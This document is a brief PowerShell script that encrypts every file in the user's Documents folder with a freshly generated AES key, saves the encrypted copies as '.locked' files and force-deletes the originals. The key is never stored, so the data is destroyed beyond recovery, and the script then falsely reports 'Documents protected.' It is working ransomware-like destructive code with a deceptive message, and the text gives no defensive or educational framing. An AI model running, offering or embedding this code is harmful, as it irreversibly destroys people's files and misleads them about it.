$aes = [System.Security.Cryptography.Aes]::Create()
$aes.GenerateKey(); $aes.GenerateIV()
Get-ChildItem "$env:USERPROFILE\Documents" -Recurse -File | ForEach-Object {
    $plain = [IO.File]::ReadAllBytes($_.FullName)
    $enc = $aes.CreateEncryptor().TransformFinalBlock($plain, 0, $plain.Length)
    [IO.File]::WriteAllBytes($_.FullName + '.locked', $enc)
    Remove-Item $_.FullName -Force
}
$aes.Dispose()
Write-Host 'Documents protected.'
